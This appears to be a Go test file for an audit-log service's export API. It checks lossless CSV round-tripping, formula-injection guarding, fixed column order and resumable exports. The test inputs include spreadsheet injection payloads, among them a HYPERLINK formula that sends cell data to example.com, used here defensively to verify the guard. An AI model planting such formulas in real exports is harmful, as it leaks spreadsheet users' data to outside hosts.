package native_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"countersign/event"
	"countersign/identity"
	"countersign/internal/testkit"
	"countersign/query"
)

// field is what stands between two commas: a value, and whether it was in quotes.
type field struct {
	value  string
	quoted bool
}

// readCSV reads RFC 4180 by its grammar and nothing more: encoding/csv takes more and changes line ends.
func readCSV(t testing.TB, text string) (records [][]field) {
	t.Helper()
	var record []field
	for len(text) > 0 {
		var f field
		if rest, ok := strings.CutPrefix(text, `"`); ok {
			f.quoted = true
			for {
				part, after, ok := strings.Cut(rest, `"`)
				if !ok {
					t.Fatal("a quote is not closed")
				}
				f.value += part
				if rest, ok = strings.CutPrefix(after, `"`); !ok {
					text = after
					break
				}
				f.value += `"`
			}
		} else {
			n := strings.IndexAny(text, ",\r\n\"")
			if n < 0 {
				t.Fatalf("no end of the line after %.100q", text)
			}
			f.value, text = text[:n], text[n:]
		}
		record = append(record, f)
		if rest, ok := strings.CutPrefix(text, ","); ok {
			text = rest
			continue
		}
		rest, ok := strings.CutPrefix(text, "\r\n")
		if !ok {
			t.Fatalf("neither a comma nor the end of the line before %.100q", text)
		}
		text = rest
		records = append(records, record)
		record = nil
	}
	if record != nil {
		t.Fatal("the last line ends with a comma")
	}
	return records
}

// unguarded takes off the apostrophe that guards a text.
func unguarded(s string) string { return strings.TrimPrefix(s, "'") }

// fromCSV makes an entry of a record, by the names of its columns alone.
func fromCSV(t testing.TB, names, record []field, guarded bool) *event.Entry {
	t.Helper()
	members := map[string]any{}
	for i, f := range record {
		path := strings.Split(names[i].value, ".")
		if f.value == "" && !f.quoted {
			continue
		}
		at := members
		for _, name := range path[:len(path)-1] {
			if at[name] == nil {
				at[name] = map[string]any{}
			}
			at = at[name].(map[string]any)
		}
		name := path[len(path)-1]
		value := f.value
		if guarded {
			value = unguarded(value)
		}
		switch name {
		case "seq", "attributes":
			at[name] = json.RawMessage(value)
		default:
			at[name] = value
		}
	}
	b, err := json.Marshal(members)
	if err != nil {
		t.Fatal(err)
	}
	d := event.NewDecoder(bytes.NewReader(b), event.One)
	d.AllowServerFields = true
	e, err := d.Next()
	if err != nil {
		t.Fatalf("%v: %s", err, b)
	}
	var added struct {
		Seq        uint64    `json:"seq"`
		ReceivedAt time.Time `json:"received_at"`
		RecordedBy *string   `json:"recorded_by"`
	}
	if err := json.Unmarshal(b, &added); err != nil {
		t.Fatal(err)
	}
	return &event.Entry{Event: e, Seq: added.Seq, ReceivedAt: event.MicrosOf(added.ReceivedAt), RecordedBy: event.TextOf(*added.RecordedBy)}
}

func TestCSVLosesNothing(t *testing.T) {
	a := newAPI(t)
	seed := uint64(4711)
	r := rand.New(rand.NewPCG(seed, seed))
	var events []event.Event
	for range 2000 {
		events = append(events, testkit.Random(r))
	}
	for _, odd := range []string{"=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", "'quoted'", "'=1", "''", "'", " =1", "＝1", "a=1", "\"=1", ",", "\r\n", "x ", "\ufeff", "=", "--", `=HYPERLINK("http://example.com/?" & A1,"x")`} {
		e := events[0]
		e.ID, e.Actor.Name, e.Detail, e.Raw = "odd "+odd, event.TextOf(odd), event.TextOf(odd+odd), event.TextOf(odd)
		events = append(events, e)
	}
	if _, err := a.trail.Append(t.Context(), events, "=writer"); err != nil {
		t.Fatal(err)
	}
	want, err := a.trail.Search(t.Context(), query.Query{Limit: len(events)})
	if err != nil {
		t.Fatal(err)
	}
	for _, guard := range []bool{true, false} {
		w := a.do(request{path: fmt.Sprintf("/api/v1/events/export?format=csv&guard=%v", guard)})
		body := must200(t, w)
		if got := w.Header().Get("Content-Type"); got != "text/csv; charset=utf-8; header=present" {
			t.Errorf("content type %q", got)
		}
		records := readCSV(t, body)
		if len(records) != len(events)+2 {
			t.Fatalf("%d records", len(records))
		}
		for i, e := range want.Entries {
			got := fromCSV(t, records[0], records[i+1], guard)
			// Their account's chain is not shown.
			got.AccountSeq, got.AccountPrev = e.AccountSeq, e.AccountPrev
			if d := cmp.Diff(e, got); d != "" {
				t.Fatalf("guard %v, entry %d:\n%s", guard, i, d)
			}
			for j, f := range records[i+1] {
				if guard && f.value != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(f.value)[0]) {
					t.Errorf("entry %d: a spreadsheet may calculate %s %q", i, records[0][j].value, f.value)
				}
			}
		}
		checkCSVEnd(t, w, records, len(events), len(events))
		all, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil || len(all) != len(records) {
			t.Errorf("encoding/csv reads %d records, %v", len(all), err)
		}
	}
}

func checkCSVEnd(t testing.TB, w *httptest.ResponseRecorder, records [][]field, count, size int) {
	t.Helper()
	last := records[len(records)-1]
	if len(last) != len(records[0]) || last[0].value != "complete" || last[1].value != fmt.Sprint(count) || last[2].value != fmt.Sprint(size) {
		t.Errorf("the last record is %v", last)
	}
	for _, f := range last[3:] {
		if f != (field{}) {
			t.Errorf("the last record is %v", last)
		}
	}
	if got := w.Result().Trailer.Get("X-Countersign-Complete"); got != fmt.Sprintf("count=%d, tree_size=%d", count, size) {
		t.Errorf("trailer %q", got)
	}
}

// Column names are a promise: scripts go by them and by their order.
func TestCSVColumnsStayAsTheyAre(t *testing.T) {
	a := newAPI(t)
	body := must200(t, a.do(request{path: "/api/v1/events/export?format=csv"}))
	header, _, _ := strings.Cut(body, "\r\n")
	if header != "seq,received_at,recorded_by,id,occurred_at,account.id,account.name,division.id,division.name,actor.id,actor.name,actor.type,"+
		"action,resource.type,resource.id,resource.name,outcome,description,detail,client.ip,client.country,source,attributes,raw" {
		t.Error(header)
	}
}

func TestExportGoesOnWhereItBrokeOff(t *testing.T) {
	a := newAPI(t)
	a.account("acme")
	a.seed(100, day)
	reader := a.user("auditor", "acme", []identity.Grant{{Role: identity.Auditor, Account: "acme"}}, identity.NewToken{})
	for _, token := range []string{"", reader} {
		whole := strings.SplitAfter(must200(t, a.do(request{path: "/api/v1/events/export?as_of=90", token: token})), "\n")
		for _, got := range []int{1, 2, 17, len(whole) - 2} {
			var last struct{ Seq int }
			if err := json.Unmarshal([]byte(whole[got-1]), &last); err != nil {
				t.Fatal(err)
			}
			w := a.do(request{path: fmt.Sprintf("/api/v1/events/export?as_of=90&after=%d", last.Seq), token: token})
			rest := strings.SplitAfter(must200(t, w), "\n")
			n := len(whole) - 2 - got
			if !cmp.Equal(rest[:len(rest)-2], whole[got:len(whole)-2]) || rest[n] != fmt.Sprintf(`{"complete":true,"count":%d,"tree_size":90}`+"\n", n) {
				t.Errorf("after %d of %d: %d more, %s", got, len(whole)-2, len(rest)-2, rest[len(rest)-2])
			}
			if trailer := w.Result().Trailer.Get("X-Countersign-Complete"); trailer != fmt.Sprintf("count=%d, tree_size=90", n) {
				t.Errorf("trailer %q", trailer)
			}
		}
	}
	rest := readCSV(t, must200(t, a.do(request{path: "/api/v1/events/export?as_of=90&format=csv&after=88"})))
	if len(rest) != 3 || rest[1][0].value != "89" {
		t.Errorf("%v", rest)
	}
}
